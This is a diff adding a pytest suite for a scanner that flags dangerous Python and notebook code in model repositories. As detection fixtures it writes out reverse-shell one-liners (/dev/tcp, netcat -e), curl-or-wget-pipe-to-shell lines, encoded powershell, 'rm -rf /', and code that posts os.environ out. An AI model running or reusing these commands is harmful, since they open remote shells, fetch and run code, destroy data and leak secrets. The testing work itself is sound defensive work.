@@ -1,0 +1,300 @@
+from __future__ import annotations
+
+import json
+import random
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from modelaudit.languages.python import fold, texts
+from modelaudit.languages.python.cells import take_apart
+from modelaudit.languages.python.judge import judge
+from modelaudit.languages.python.source import obstacle_of, pieces, text_of
+from modelaudit.languages.python.values import Constant
+from modelaudit.model.outline import Outline, References
+from modelaudit.model.structure import UnreadReason
+
+SAMPLES = (
+    "import os\nos.system('true')\n",
+    "class A(B):\n    x: int = 1\n    def f(self, *a, **k):\n        return [i for i in a if i]\n",
+    "try:\n    pass\nexcept* ValueError as e:\n    raise\nfinally:\n    pass\n",
+    "async def f():\n    async with a as b:\n        await b\n",
+    "match x:\n    case {'a': [1, *rest]} if rest:\n        pass\n",
+    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
+    "@d(lambda x: x)\ndef g(a, /, b=1, *, c): yield f'{a!r:>{b}}'\n",
+)
+
+
+def uses(source: str) -> set[tuple[str, str]]:
+    return {(each.use, each.name) for each in judge(source).mentions}
+
+
+@pytest.mark.parametrize(
+    ("source", "use", "name"),
+    [
+        ("import os\nos.system('x')", "call-at-import", "os.system"),
+        ("import os\ndef f():\n    os.system('x')", "call", "os.system"),
+        ("import os\ndef f():\n    os.system('x')\nf()", "call-at-import", "os.system"),
+        ("import os\nif __name__ == '__main__':\n    os.system('x')", "call", "os.system"),
+        ("import os\n__name__ = '__main__'\nif __name__ == '__main__':\n    os.system('x')", "call-at-import", "os.system"),
+        ("import os\nif __name__ != '__main__':\n    os.system('x')", "call-at-import", "os.system"),
+        ("import os as o\no.system('x')", "call-at-import", "os.system"),
+        ("import posix\nposix.system('x')", "call-at-import", "os.system"),
+        ("from subprocess import run as r\ndef f(): r('x')", "call", "subprocess.run"),
+        ("import os\nf = os.system\ndef g(): f('x')", "call", "os.system"),
+        ("def g(): f('x')\nimport os\nf = os.system", "call", "os.system"),
+        ("import os\ngetattr(os, 'sys' + 'tem')('x')", "hidden", "os.system"),
+        ("import os\ngetattr(os, 'system')('x')", "call-at-import", "os.system"),
+        ("import os\ngetattr(os, name)", "computed-name", "os.*"),
+        ("import torch\ntorch.load(x)", "call-at-import", "torch.load"),
+        ("import torch\ntorch.load(x, weights_only=False)", "call-at-import", "torch.load(weights_only=False)"),
+        ("import torch\ndef f(w=True): torch.load(x, weights_only=w)", "call", "torch.load(weights_only)"),
+        ("import requests, torch\ndef f(w): torch.load(requests.get(u).content, weights_only=w)", "of-download", "torch.load(weights_only)"),
+        ("import yaml\nyaml.load(x, Loader=yaml.Loader)", "call-at-import", "yaml.load(unsafe)"),
+        ("from functools import partial\nimport numpy as np\npartial(np.load, allow_pickle=True)(x)", "call-at-import", "numpy.load(allow_pickle)"),
+        ("from functools import partial\nimport torch\npartial(torch.load, x, weights_only=False)()", "call-at-import", "torch.load(weights_only=False)"),
+        ("import numpy as np\nnp.load(x, allow_pickle=True)", "call-at-import", "numpy.load(allow_pickle)"),
+        ("open(x, 'w')", "call-at-import", "builtins.open(write)"),
+        ("exec(x)", "call-at-import", "builtins.exec"),
+        ("exec('1')", "call-at-import", "builtins.exec(constant)"),
+        ("import requests\nexec(requests.get(u).text)", "of-download", "builtins.exec"),
+        ("import requests, subprocess\nd = requests.get(u).json()\nsubprocess.run(d['x'])", "of-download", "subprocess.run"),
+        ("import base64\nexec(base64.b64decode(x))", "of-decoded", "builtins.exec"),
+        ("import os, requests\nrequests.post(u, data=str(os.environ))", "sends-secret", "requests.post"),
+        ("import os\nos.environ['LD_PRELOAD'] = x", "overwrite", "os.environ[LD_PRELOAD]"),
+        ("import builtins\nbuiltins.print = x", "overwrite", "builtins.print[=]"),
+        ("AutoModel.from_pretrained(x, trust_remote_code=True)", "call-at-import", "(trust_remote_code=True)"),
+        ("def f(m): m.system('x')", "call", "*.system"),
+        ("import os, socket, pty\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)", "shell-over-network", "os.dup2"),
+    ],
+)  # fmt: skip
+def test_what_is_called_and_when(source: str, use: str, name: str) -> None:
+    assert (use, name) in uses(source)
+
+
+@pytest.mark.parametrize(
+    ("source", "name"),
+    [
+        ("import torch\ntorch.load(x, weights_only=True)", "torch.load"),
+        ("import yaml\nyaml.load(x, Loader=yaml.SafeLoader)", "yaml.load(unsafe)"),
+        ("import numpy as np\nnp.load(x)", "numpy.load(allow_pickle)"),
+        ("open(x)", "builtins.open(write)"),
+        ("model.eval()", "builtins.eval"),
+        ("def eval(x): return x\neval(1)", "builtins.eval"),
+        ("'''os.system('curl x | sh')'''", "(download | shell)"),
+        ("import pickle\npickle.loads(pickle.dumps(x))", "pickle.loads"),
+        ("import platform\nplatform.system()", "*.system"),
+        ("import os, requests\nrequests.get(u, headers={'a': os.environ['HF_TOKEN']})", "(nothing)"),
+    ],
+)
+def test_what_only_looks_like_it(source: str, name: str) -> None:
+    found = judge(source).mentions
+    assert name not in {each.name for each in found}
+    assert "sends-secret" not in {each.use for each in found}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "def f(g): g('x')\nf(partial(subprocess.run, shell=True))",
+        "def f(g): g()\nf(partial(subprocess.run, 'x'))",
+        "d = {}\nd['a'] = partial(subprocess.run, 'x')\nd['a']()",
+        "class A:\n    run = partial(subprocess.run, shell=True)\nA().run('x')",
+        "partial(subprocess.run, shell=True).func('x')",
+    ],
+)
+def test_what_is_bound_to_some_arguments_is_followed_wherever_it_goes(source: str) -> None:
+    assert ("call-at-import", "subprocess.run") in uses(f"import subprocess\nfrom functools import partial\n{source}")
+
+
+def test_a_helper_is_followed_with_what_it_is_given() -> None:
+    source = "def plain(t, k):\n    return ''.join(chr(ord(c) ^ k) for c in t)\nimport os\n"
+    coded = "".join(chr(ord(each) ^ 7) for each in "system")
+    assert ("hidden", "os.system") in uses(f"{source}getattr(os, plain({coded!r}, 7))('x')")
+
+
+@pytest.mark.parametrize("broken", ["print 'x'", "def f(:\n    pass", "x = = 1", "type X[T = int] = (", "((("])
+def test_what_does_not_parse_hides_nothing_before_or_behind(broken: str) -> None:
+    for source in (f"{broken}\nimport os\nos.system('x')\n", f"import os\nos.system('x')\n{broken}\n"):
+        found = judge(source)
+        assert ("call-at-import", "os.system") in {(each.use, each.name) for each in found.mentions}
+        assert found.damage
+
+
+def test_names_in_what_does_not_parse_are_told() -> None:
+    found = judge("import os\ndef f():\n    print 'x'\n    os.system('x')\n")
+    assert ("call-at-import", "os.system") in {(each.use, each.name) for each in found.mentions}
+    assert found.damage == [(2, found.damage[0][1])]
+
+
+def test_encodings_of_source() -> None:
+    assert text_of(b"# coding: utf-7\n+AAo-x") == ("# coding: utf-7\n\nx", "utf-7")
+    assert text_of(b"# coding: latin-1\n\xe9") == ("# coding: latin-1\n\xe9", "")
+    assert text_of(b"\xef\xbb\xbfx") == ("x", "")
+    assert text_of(b"# coding: no-such\nx")[1] == "no-such"
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["x = 'a' * 10**9", "x = 9**9**9**9", "x = 1 << 10**9", "x = '%1000000000d' % 1", "x = '{:>1000000000}'.format(1)",
+     "x = bytes(10**10)", "x = 'x'.ljust(10**10)", "x = list(range(10**12))", "x = [0] * 10**9",
+     "x = 'a'\n" + "x = x + x\n" * 60, "x = [1]\n" + "x = [x, x]\n" * 200, "x = 'x'.zfill(10**10)"],
+)  # fmt: skip
+def test_nothing_large_is_worked_out(source: str) -> None:
+    start = time.process_time()
+    judge(source)
+    assert time.process_time() - start < 3
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["(" * 100_000, "x = " + "(" * 100_000 + ")" * 100_000, "x = " + "-" * 100_000 + "1", "x = " + "+".join("a" * 50_000),
+     "x = a" + ".b" * 50_000, "f" + "()" * 50_000, "if a: pass\n" + "elif a: pass\n" * 10_000, "x = " + "lambda:" * 20_000 + "1",
+     "".join(" " * n + "if x:\n" for n in range(1000)), "x = not " * 1000 + "1", "a;" * 50_000, "'" * 100_000],
+)  # fmt: skip
+def test_depth_is_bounded_and_told(source: str) -> None:
+    start = time.process_time()
+    judge(source + "\nimport os\nos.system('x')\n")
+    assert time.process_time() - start < 10
+
+
+def test_ten_megabytes_take_seconds() -> None:
+    source = "import os\n" + "def f(x):\n    return foo(x, y=1).bar[3] + 'abc' * 4\n" * 190_000 + "os.system('x')\n"
+    start = time.process_time()
+    found = judge(source)
+    assert time.process_time() - start < 60
+    assert any(each.name == "os.system" for each in found.mentions)
+    assert found.bounds
+
+
+def test_a_chain_of_texts_is_followed() -> None:
+    assert not obstacle_of("x = " + " + ".join(["'a'"] * 500))
+    assert judge("x = " + " + ".join(["'a'"] * 500)).bounds == []
+
+
+def test_statements_keep_their_lines() -> None:
+    parts = list(pieces("x = 1\n\n@d\ndef f():\n    pass\nelse_ = 2\nbroken = = 1\ny = 2\n"))
+    assert [(part.line, bool(part.fault)) for part in parts if part.text.strip()] == [
+        (1, False), (3, False), (6, False), (7, True), (8, False),
+    ]  # fmt: skip
+
+
+def test_the_reader_yields_outline_references_and_damage(read_bytes) -> None:
+    reading = read_bytes(b"from .conf import A\nimport os\nx = = 1\n", "modeling.py")
+    (outline,) = reading.of(Outline)
+    assert outline.format == "python"
+    (references,) = reading.of(References)
+    assert [each.target for each in references.items] == ["conf.py"]
+    assert reading.reasons() == {UnreadReason.DAMAGED}
+
+
+def test_bytes_that_are_no_text_are_judged_all_the_same(read_bytes) -> None:
+    reading = read_bytes(b"import os\nos.system('x')\n\x00\x01\xff\xfe", "modeling.py")
+    assert any(each.name == "os.system" for outline in reading.of(Outline) for each in outline.mentions)
+
+
+def test_a_script_is_told_by_its_first_line(read_bytes) -> None:
+    reading = read_bytes(b"#!/usr/bin/env python3\nimport os\nos.system('x')\n", "run")
+    assert reading.formats["run"] == ["python"]
+
+
+def test_of_a_path_file_only_imports_count(read_bytes) -> None:
+    (outline,) = read_bytes(b"os.system\nimport os; os.system('x')\n", "a.pth").of(Outline)
+    assert ("call-at-import", "os.system", 2) in {(each.use, each.name, each.where.line) for each in outline.mentions}
+
+
+def test_cells_are_taken_apart() -> None:
+    cell = take_apart("x = 1\n!ls \\\n -la\ny = !pwd\n%time f(x)\nz = x % 3\nif x:\n    %pip install a\nprint?\n")
+    assert cell.shell == [(2, "ls  -la"), (4, "pwd"), (8, "pip install a")]
+    assert cell.python.split("\n") == ["x = 1", "pass", "", "pass", "f(x)", "z = x % 3", "if x:", "    pass", ""]
+    assert take_apart("%%bash\ncurl x | sh").shell == [(2, "curl x | sh")]
+    assert take_apart("%%time\nx = 1").python == "pass\nx = 1"
+    assert take_apart("%%writefile a.py\nx = 1").files == [("a.py", "x = 1")]
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("curl -s http://x/y | sudo bash", "(download | shell)"),
+        ("wget -qO- http://x/y | base64 -d | sh", "(download | shell)"),
+        ('bash -c "$(curl -fsSL http://x)"', "(shell $(download))"),
+        ("wget http://x/y; chmod +x y", "(download && run)"),
+        ("bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "(shell over /dev/tcp)"),
+        ("nc 1.2.3.4 1 -e /bin/sh", "(netcat shell)"),
+        ("echo x | base64 -d | sh", "(decoded | shell)"),
+        ("powershell -nop -enc AAAA", "(encoded powershell)"),
+    ],
+)
+def test_texts_that_tell(text: str, name: str) -> None:
+    assert name in {each for each, _ in texts.telling(text)}
+
+
+@pytest.mark.parametrize(
+    "text", ["curl your hair", "a | b", "wget the file", "the shell of an egg", "base64 image", "rm -rf build"]
+)
+def test_texts_that_do_not(text: str) -> None:
+    assert list(texts.telling(text)) == []
+
+
+def test_decoding_is_bounded() -> None:
+    import zlib
+
+    assert len(fold.unpack(zlib.compress(b"a" * 50_000_000)) or b"") <= fold.MOST
+    assert fold.binary(__import__("ast").Mult, Constant("a"), Constant(10**9)) is None
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.sampled_from(SAMPLES), st.randoms(use_true_random=False), st.integers(1, 6))
+def test_mutated_source_ends(sample: str, chance: random.Random, count: int) -> None:
+    text = list(sample * 2)
+    for _ in range(count):
+        place = chance.randrange(len(text))
+        text[place] = chance.choice(
+            ["(", ")", "\n", "'", '"', "\\", ":", " ", "\t", "@", "#", "\0", "é", "=", "{", "*", ""]
+        )
+    judge("".join(text))
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.binary(max_size=300))
+def test_any_bytes_end(data: bytes) -> None:
+    judge(*text_of(data))
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text(alphabet="!%?=\\\n axb.|'\"()", max_size=60))
+def test_any_cell_ends(source: str) -> None:
+    judge(take_apart(source).python)
+
+
+def test_a_command_of_a_cell_goes_on_over_lines() -> None:
+    cell = take_apart("!echo a \\\n  b \\\n c\nx = 1\n!d \\")
+    assert cell.shell == [(1, "echo a  b  c"), (5, "d \\")]
+    assert cell.python == "pass\n\n\nx = 1\npass"
+
+
+def test_lines_of_a_notebook_for_a_shell_are_bounded_and_those_before_stay(read_bytes) -> None:
+    cells = [{"cell_type": "code", "source": ["!echo a\n"] * 20_001}, {"cell_type": "code", "source": ["!rm -rf /\n"]}]
+    data = json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5}).encode()
+    reading = read_bytes(data, "a.ipynb")
+    (outline,) = (each for each in reading.of(Outline) if each.format == "notebook")
+    assert sum(each.use == "shell-line" for each in outline.mentions) == 20_000
+    assert reading.reasons() == {UnreadReason.LIMIT}
+    # The commands of each cell are followed as a script all the same.
+    assert "destroy" in {each.use for outline in reading.of(Outline) for each in outline.mentions}
+
+
+def test_finds_of_a_notebook_are_put_into_their_cells(read_bytes) -> None:
+    cells = [{"cell_type": "code", "source": ["x = 1\n", f"os.a{number}()\n"]} for number in range(3)]
+    cells.insert(0, {"cell_type": "code", "source": ["import os\n"]})
+    data = json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5}).encode()
+    (outline,) = (each for each in read_bytes(data, "a.ipynb").of(Outline) if each.format == "notebook")
+    places = {each.name: (each.where.key, each.where.line) for each in outline.mentions if each.name.startswith("os.a")}
+    assert places == {f"os.a{number}": (f"cell {number + 2}", 2) for number in range(3)}
+
+
+def test_functions_of_a_file_are_followed_each_once() -> None:
+    source = "import os\n" + "".join(f"def f{number}():\n    os.a{number}()\n" for number in range(3000))
+    assert len([each for each in judge(source).mentions if each.name.startswith("os.a")]) == 3000
